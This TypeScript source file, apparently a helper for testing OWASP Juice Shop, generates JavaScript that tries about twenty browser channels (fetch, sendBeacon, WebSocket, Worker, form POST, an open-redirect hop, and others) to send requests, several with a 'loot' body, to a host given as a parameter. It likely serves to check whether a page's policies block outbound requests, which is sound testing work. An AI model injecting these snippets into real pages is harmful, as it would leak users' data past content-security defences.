/**
 * The ways in which a page's script can send a request to another host, as code that ends when the request has got
 * through or failed. `at` is the address of a host without a trailing slash. Each request names its way in its path.
 */
const ways: Readonly<Record<string, (at: string) => string>> = {
  fetch: (at) => `fetch('${at}/fetch', { mode: 'no-cors' })`,
  keepalive: (at) => `fetch('${at}/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'loot' })`,
  xhr: (at) => ended(`const it = new XMLHttpRequest(); it.open('GET', '${at}/xhr'); it.onloadend = done; it.send()`),
  image: (at) => ended(`const it = new Image(); it.onload = it.onerror = done; it.src = '${at}/image'`),
  script: (at) => inHead('script', `it.src = '${at}/script'`),
  module: (at) => `import('${at}/module')`,
  style: (at) => inHead('link', `it.rel = 'stylesheet'; it.href = '${at}/style'`),
  import: (at) => inHead('style', `it.textContent = "@import url('${at}/import')"`),
  prefetch: (at) => inHead('link', `it.rel = 'prefetch'; it.href = '${at}/prefetch'`),
  preload: (at) => inHead('link', `it.rel = 'preload'; it.as = 'image'; it.href = '${at}/preload'`),
  font: (at) => `new FontFace('loot', 'url(${at}/font)').load()`,
  video: (at) =>
    ended(`const it = document.createElement('video'); it.onerror = done; it.src = '${at}/video'; it.load()`),
  frame: (at) => inBody('iframe', `it.src = '${at}/frame'`),
  object: (at) => inBody('object', `it.data = '${at}/object'`),
  form: (at) =>
    inBody(
      'iframe',
      `it.name = 'loot'`,
      `const form = document.createElement('form'); form.target = 'loot'; form.method = 'POST';
      form.action = '${at}/form'; document.body.append(form); form.submit()`,
    ),
  beacon: (at) => `navigator.sendBeacon('${at}/beacon', 'loot')`,
  events: (at) =>
    ended(`const it = new EventSource('${at}/events'); it.onopen = it.onerror = () => { it.close(); done() }`),
  socket: (at) =>
    ended(`const it = new WebSocket('${at.replace('http', 'ws')}/socket'); it.onopen = it.onclose = done`),
  worker: (at) =>
    ended(`const code = "fetch('${at}/worker', { mode: 'no-cors' }).finally(() => postMessage(0))";
      const it = new Worker(URL.createObjectURL(new Blob([code]))); it.onmessage = it.onerror = done`),
  redirect: (at) =>
    `fetch('/redirect?to=${at}/redirect?https://github.com/juice-shop/juice-shop', { mode: 'no-cors' })`,
};

export const waysOut = Object.keys(ways);

/** Runs all of them at once. Resolves when each has ended, or after a second and a half. */
export function askBy(at: string): string {
  const attempts = Object.values(ways).map(
    (way) =>
      `Promise.race([new Promise((resolve) => setTimeout(resolve, 1500)), (async () => ${way(at)})().catch(() => 0)])`,
  );
  return `Promise.all([${attempts.join(',\n')}]).then(() => 0)`;
}

function ended(code: string): string {
  return `new Promise((done) => { ${code} })`;
}

function inHead(tag: string, code: string): string {
  return ended(
    `const it = document.createElement('${tag}'); it.onload = it.onerror = done; ${code}; document.head.append(it)`,
  );
}

function inBody(tag: string, code: string, then = ''): string {
  return ended(
    `const it = document.createElement('${tag}'); it.onload = it.onerror = done; ${code}; document.body.append(it); ${then}`,
  );
}
